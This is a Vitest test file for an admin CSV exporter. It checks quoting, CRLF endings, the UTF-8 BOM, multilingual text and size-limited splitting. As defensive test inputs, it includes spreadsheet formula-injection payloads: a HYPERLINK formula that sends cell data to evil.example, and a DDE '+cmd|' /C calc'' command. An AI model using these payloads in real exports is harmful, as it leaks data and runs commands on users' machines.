import { describe, expect, it } from 'vitest';
import { csvCell, CsvParts, neutralizeFormula, toCsv, toCsvWithin } from '#functions/_shared/admin/csv.ts';

/** A strict RFC 4180 reader, to check that what is written reads back as the cells it was given. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      if (cell !== '') throw new Error(`quote inside an unquoted cell at ${i}`);
      // A quoted cell: anything up to the closing quote, "" standing for one quote.
      let end = i + 1;
      for (;;) {
        const found = text.indexOf('"', end);
        if (found === -1) throw new Error('unterminated quoted cell');
        if (text[found + 1] === '"') end = found + 2;
        else {
          end = found;
          break;
        }
      }
      cell += text.slice(i + 1, end).replaceAll('""', '"');
      i = end + 1;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i += 2;
    } else if (text[i] === ',') {
      record.push(cell);
      cell = '';
      i += 1;
    } else if (text[i] === '\r' || text[i] === '\n') {
      throw new Error(`bare line break at ${i}`);
    } else {
      cell += text[i];
      i += 1;
    }
  }
  if (cell !== '' || record.length > 0) throw new Error('last record not ended by CRLF');
  return records;
}

describe('neutralizeFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', '\'@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\tplain text after a tab', "'\tplain text after a tab"],
    ['   =1+1', "'   =1+1"],
    ['\n-1', "'\n-1"],
    ['\u00a0@SUM(A1)', "'\u00a0@SUM(A1)"],
    ['+62 812 3456 7890', "'+62 812 3456 7890"],
  ])('prefixes %j with a quote', (input, expected) => {
    expect(neutralizeFormula(input)).toBe(expected);
  });

  it.each(['김민수', 'a=b', 'x+1', 'minsu.kim@example.com', '062-812', '', ' plain', "'=already quoted"])('leaves %j as it is', (input) => {
    expect(neutralizeFormula(input)).toBe(input);
  });
});

describe('csvCell', () => {
  it('writes empty for null and undefined, numbers as they are', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(-3)).toBe('-3');
  });

  it('quotes cells with quotes, commas and line breaks, doubling the quotes', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
    expect(csvCell('line 1\r\nline 2')).toBe('"line 1\r\nline 2"');
    expect(csvCell('plain')).toBe('plain');
  });

  it('neutralizes a formula and then quotes it when needed', () => {
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });
});

describe('toCsv', () => {
  const header = ['id', 'name', 'message'];
  const rows = [
    [1, '김민수', '안녕하세요, "PMA" 설립 문의입니다.\n두 번째 줄, 그리고 세 번째 줄:\n=1+1'],
    [2, '=HYPERLINK("http://evil.example","click")', "+cmd|' /C calc'!A0"],
    [3, '-2+3', '@SUM(A1:A2)'],
    [4, '\t=1', null],
    [5, '山田 太郎', '日本語のメッセージ'],
  ] as const;
  const text = toCsv(header, rows);

  it('starts with a UTF-8 byte order mark and ends every record with CRLF', () => {
    expect(text.startsWith('\uFEFFid,name,message\r\n')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('reads back as the same cells, with formulas neutralized and Korean intact', () => {
    expect(parseCsv(text.slice(1))).toEqual([
      ['id', 'name', 'message'],
      ['1', '김민수', '안녕하세요, "PMA" 설립 문의입니다.\n두 번째 줄, 그리고 세 번째 줄:\n=1+1'],
      ['2', `'=HYPERLINK("http://evil.example","click")`, "'+cmd|' /C calc'!A0"],
      ['3', "'-2+3", "'@SUM(A1:A2)"],
      ['4', "'\t=1", ''],
      ['5', '山田 太郎', '日本語のメッセージ'],
    ]);
  });

  it('writes only the header for no rows', () => {
    expect(toCsv(header, [])).toBe('\uFEFFid,name,message\r\n');
  });
});

describe('toCsvWithin', () => {
  const header = ['name'];
  const rows = [['가나다'], ['b'], ['c']];

  it('counts UTF-8 bytes and keeps only whole records within the budget', () => {
    // BOM 3 + "name\r\n" 6 = 9; "가나다\r\n" 11; "b\r\n" 3; "c\r\n" 3.
    expect(toCsvWithin(header, rows, 26)).toEqual({ text: '\uFEFFname\r\n가나다\r\nb\r\nc\r\n', records: 3, complete: true });
    expect(toCsvWithin(header, rows, 25)).toEqual({ text: '\uFEFFname\r\n가나다\r\nb\r\n', records: 2, complete: false });
    expect(toCsvWithin(header, rows, 19)).toEqual({ text: '\uFEFFname\r\n', records: 0, complete: false });
  });
});

describe('CsvParts', () => {
  it('splits records into documents that each stand alone within the budget, every record once', () => {
    // BOM 3 + "name\r\n" 6 = 9; "가나다\r\n" 11; "b\r\n" 3; "c\r\n" 3.
    const parts = new CsvParts(['name'], 23);
    expect(parts.add(['가나다'])).toBeUndefined();
    expect(parts.add(['b'])).toBeUndefined(); // 23 bytes: fits exactly
    expect(parts.add(['c'])).toEqual({ text: '\uFEFFname\r\n가나다\r\nb\r\n', records: 2, complete: true });
    expect(parts.records).toBe(1);
    expect(parts.close()).toEqual({ text: '\uFEFFname\r\nc\r\n', records: 1, complete: true });
    expect(parts.close()).toEqual({ text: '\uFEFFname\r\n', records: 0, complete: true });
  });

  it('gives a record larger than the budget a document of its own instead of losing it', () => {
    const parts = new CsvParts(['name'], 12);
    expect(parts.add(['b'])).toBeUndefined();
    expect(parts.add(['가나다'])).toEqual({ text: '\uFEFFname\r\nb\r\n', records: 1, complete: true });
    expect(parts.add(['c'])).toEqual({ text: '\uFEFFname\r\n가나다\r\n', records: 1, complete: true });
  });
});
